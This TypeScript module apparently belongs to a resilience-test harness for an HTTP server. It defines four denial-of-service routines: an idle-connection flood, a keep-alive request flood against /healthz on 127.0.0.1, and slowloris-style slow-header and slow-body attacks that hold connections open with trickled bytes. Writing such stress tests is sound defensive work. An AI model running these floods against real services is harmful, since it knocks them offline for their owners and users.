import { forgedHead, forgedHeadOf } from './heads.ts'
import { attackWith, type Target } from './target.ts'

const FLOOD = 5000
const SLOW_CLIENTS = 1000
const SLOW_MS = 1000

/** Connections over which nothing is ever sent. */
export const idleFlood = (target: Target): Promise<void> =>
  attackWith(target, { count: FLOOD, reopenMs: 1000, use: (client) => client.closed() })

/** Connections over which one complete request is sent every five seconds. */
export const keepAliveFlood = (target: Target): Promise<void> =>
  attackWith(target, {
    count: FLOOD,
    reopenMs: 1000,
    async use(client) {
      do {
        if (!(await client.request('GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n'))) return
      } while (await client.pause(5000))
    },
  })

/** Requests whose head never ends: one header line a second. */
export const slowHeaders = (target: Target): Promise<void> =>
  attackWith(target, {
    count: SLOW_CLIENTS,
    reopenMs: 500,
    async use(client) {
      if (!(await client.request(forgedHead()))) return
      for (let line = 0; await client.pause(SLOW_MS); line += 1) {
        if (!(await client.send(`X-Line-${line}: 1\r\n`))) return
      }
    },
  })

/** Deliveries whose body arrives at one byte a second. */
export const slowBodies = (target: Target): Promise<void> =>
  attackWith(target, {
    count: SLOW_CLIENTS,
    reopenMs: 500,
    async use(client) {
      if (!(await client.request(forgedHeadOf(100_000)))) return
      while (await client.pause(SLOW_MS)) if (!(await client.send('{'))) return
    },
  })
